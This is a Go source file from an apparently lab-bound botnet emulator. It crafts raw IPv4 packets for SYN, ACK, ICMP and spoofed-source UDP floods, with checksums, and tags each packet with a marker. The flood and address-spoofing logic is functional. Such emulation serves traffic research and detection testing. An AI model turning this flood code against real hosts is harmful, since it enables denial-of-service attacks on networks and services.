package attack

import (
	"encoding/binary"
	"fmt"
	"math/rand/v2"
	"net"
	"net/netip"

	"golang.org/x/sys/unix"

	"github.com/masugata/masugata/internal/lab/topology"
	"github.com/masugata/masugata/internal/model"
)

// rawFlood writes whole IPv4 packets, as bots with root do.
type rawFlood struct {
	fd     int
	order  Order
	source netip.Addr
	dst    unix.RawSockaddrInet4
	v      vector
	rnd    *rand.Rand
}

func newRawFlood(o Order) (*rawFlood, error) {
	source, err := ownAddr()
	if err != nil {
		return nil, err
	}
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_CLOEXEC|unix.SOCK_NONBLOCK, unix.IPPROTO_RAW)
	if err != nil {
		return nil, fmt.Errorf("raw socket: %w", err)
	}
	if err := unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_SNDBUFFORCE, 8<<20); err != nil {
		unix.Close(fd)
		return nil, fmt.Errorf("raw socket: send buffer: %w", err)
	}
	f := &rawFlood{fd: fd, order: o, source: source, rnd: rand.New(rand.NewPCG(rand.Uint64(), rand.Uint64()))}
	f.dst = unix.RawSockaddrInet4{Family: unix.AF_INET, Addr: o.Target.As4()}
	size := map[model.Vector]int{model.VectorSYN: 40, model.VectorACK: 40, model.VectorICMP: 20 + 8 + 56, model.VectorSpoofed: 20 + 8 + 128}[o.Vector]
	f.v.init(size, &f.dst)
	return f, nil
}

func ownAddr() (netip.Addr, error) {
	addrs, err := net.InterfaceAddrs()
	if err != nil {
		return netip.Addr{}, err
	}
	for _, a := range addrs {
		p, err := netip.ParsePrefix(a.String())
		if err == nil && topology.HomeNet.Contains(p.Addr()) {
			return p.Addr(), nil
		}
	}
	return netip.Addr{}, fmt.Errorf("no address of %s here", topology.HomeNet)
}

func (f *rawFlood) close() { unix.Close(f.fd) }

func (f *rawFlood) send(n int) (int, error) {
	sent := 0
	for n > 0 {
		k := min(n, batch)
		for i := range k {
			f.write(f.v.bufs[i])
		}
		got, err := f.v.flush(f.fd, k)
		if err != nil {
			return sent, err
		}
		sent += got
		n -= k
	}
	return sent, nil
}

// write fills b with the next packet.
func (f *rawFlood) write(b []byte) {
	r := f.rnd.Uint64()
	src := f.source.As4()
	if f.order.Vector == model.VectorSpoofed {
		src = [4]byte{198, 18 + byte(r>>48)&1, byte(r >> 40), byte(r>>32) | 1} // RFC 2544 range
	}
	body := b[20:]
	proto := byte(unix.IPPROTO_TCP)
	switch f.order.Vector {
	case model.VectorSYN:
		tcpSegment(body, r, model.TCPSyn, f.order.Device, src, f.dst.Addr)
	case model.VectorACK:
		tcpSegment(body, r, model.TCPAck, f.order.Device, src, f.dst.Addr)
	case model.VectorICMP:
		proto = unix.IPPROTO_ICMP
		icmpEcho(body, r, f.order.Device)
	case model.VectorSpoofed:
		proto = unix.IPPROTO_UDP
		udpDatagram(body, r, f.order.Device)
	}
	ipHeader(b, proto, r, src, f.dst.Addr)
}

func ipHeader(b []byte, proto byte, r uint64, src, dst [4]byte) {
	b[0], b[1] = 0x45, 0
	binary.BigEndian.PutUint16(b[2:], uint16(len(b)))
	binary.BigEndian.PutUint16(b[4:], uint16(r)|1)
	b[6], b[7], b[8], b[9] = 0, 0, 64, proto
	b[10], b[11] = 0, 0 // the kernel fills the checksum in
	copy(b[12:16], src[:])
	copy(b[16:20], dst[:])
}

func tcpSegment(b []byte, r uint64, flags, device uint8, src, dst [4]byte) {
	binary.BigEndian.PutUint16(b[0:], 1024+uint16(r>>16)%60000)
	binary.BigEndian.PutUint16(b[2:], TCPPort)
	binary.BigEndian.PutUint32(b[4:], uint32(r>>32))
	ack := uint32(0)
	if flags&model.TCPAck != 0 {
		ack = uint32(r)
	}
	binary.BigEndian.PutUint32(b[8:], ack)
	b[12], b[13] = 5<<4, flags
	binary.BigEndian.PutUint16(b[14:], Window|uint16(device))
	binary.BigEndian.PutUint32(b[16:], 0)
	sum := checksum(0, src[:])
	sum = checksum(sum, dst[:])
	sum = checksum(sum+6+uint32(len(b)), b)
	binary.BigEndian.PutUint16(b[16:], fold(sum))
}

func icmpEcho(b []byte, r uint64, device uint8) {
	b[0], b[1], b[2], b[3] = 8, 0, 0, 0
	binary.BigEndian.PutUint32(b[4:], uint32(r>>32))
	copy(b[8:], Magic)
	b[8+len(Magic)] = device
	binary.BigEndian.PutUint16(b[2:], fold(checksum(0, b)))
}

func udpDatagram(b []byte, r uint64, device uint8) {
	binary.BigEndian.PutUint16(b[0:], 1024+uint16(r>>16)%60000)
	binary.BigEndian.PutUint16(b[2:], UDPPort)
	binary.BigEndian.PutUint16(b[4:], uint16(len(b)))
	b[6], b[7] = 0, 0 // no checksum (RFC 768)
	copy(b[8:], Magic)
	b[8+len(Magic)] = device
}

// checksum adds b to a ones' complement sum (RFC 1071).
func checksum(sum uint32, b []byte) uint32 {
	for ; len(b) >= 2; b = b[2:] {
		sum += uint32(b[0])<<8 | uint32(b[1])
	}
	if len(b) == 1 {
		sum += uint32(b[0]) << 8
	}
	return sum
}

func fold(sum uint32) uint16 {
	for sum>>16 != 0 {
		sum = sum&0xffff + sum>>16
	}
	return ^uint16(sum)
}
